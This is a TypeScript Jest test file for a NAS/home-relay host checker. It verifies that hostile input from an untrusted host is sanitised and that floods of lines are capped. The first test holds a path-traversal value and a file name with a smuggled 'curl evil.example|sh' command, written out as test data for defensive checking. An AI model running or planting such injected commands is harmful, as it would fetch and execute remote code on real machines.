import { expect, test } from "@jest/globals";
import { readLook } from "../../../components/check/hostLook.ts";
import { parseDifferences } from "../../../components/network/difference.ts";

const question = { files: [], sshd: undefined, settings: undefined };
const look = (...lines: readonly string[]) =>
  readLook("nas", question, [...lines, "end"].join("\n"))?.differences ?? [];

test("a home in the wrong hands writes no command for a person to type", () => {
  const found = look(
    "stranger\t~/.ssh/id_ed25519",
    "stranger\t/etc/homerelay/keys/../../passwd",
    "stranger\t/etc/homerelay/keys/old; curl evil.example|sh",
  );
  expect(found.map(({ what, repair }) => [what, repair])).toEqual([
    [
      "/etc/homerelay/keys/old??curl?evil.example?sh",
      { by: "person", mend: "on nas: rm /etc/homerelay/keys/old??curl?evil.example?sh" },
    ],
  ]);
});

test("a home in the wrong hands does not keep this program at work with what it says", () => {
  const strangers = Array.from({ length: 50_000 }, (_, i) => `stranger\t/etc/homerelay/keys/${i}`);
  expect(look(...strangers)).toHaveLength(200);
  const table = Array.from({ length: 50_000 }, (_, i) => `rule\t${i}\t${"x".repeat(1000)}\tthere\n`).join("");
  const parsed = parseDifferences("nas", table, { by: "host" });
  expect([parsed.length, parsed[0]?.found.length]).toEqual([200, 300]);
});
